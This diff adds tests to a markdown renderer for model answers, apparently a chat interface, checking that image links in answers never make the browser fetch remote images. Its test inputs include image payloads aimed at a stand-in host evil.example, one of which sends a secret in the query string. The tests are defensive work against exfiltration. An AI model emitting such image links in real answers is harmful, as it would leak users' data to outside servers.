@@ -58,4 +58,29 @@ describe('math', () => {
     expect(box.querySelectorAll('.katex').length).toBe(3)
     expect(hasMath(box)).toBe(false)
   })
+
+  it.each([
+    '![chart](https://evil.example/collect?secret=4711)',
+    '![](https://evil.example/pixel.png)',
+    '![x][ref]\n\n[ref]: https://evil.example/ref.png',
+    '<img src="https://evil.example/raw.png">',
+    '![x](//evil.example/protocol-relative.png)',
+    '![x](/api/avatars/abc.webp)',
+  ])('never makes the browser fetch an image from a model answer: %s', (answer) => {
+    const box = document.createElement('div')
+    box.innerHTML = renderMarkdown(answer)
+    expect(box.querySelectorAll('img').length).toBe(0)
+  })
+
+  it('shows a remote image as a link the reader may open, and an inline one as it is', () => {
+    const box = document.createElement('div')
+    box.innerHTML = renderMarkdown('![the chart](https://img.example/c.png)')
+    const link = box.querySelector('a[data-image]') as HTMLAnchorElement
+    expect(link.getAttribute('href')).toBe('https://img.example/c.png')
+    expect(link.textContent).toContain('the chart')
+    expect(link.getAttribute('rel')).toContain('noreferrer')
+    const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='
+    box.innerHTML = renderMarkdown(`![dot](${pixel})`)
+    expect(box.querySelector('img')?.getAttribute('src')).toBe(pixel)
+  })
 })
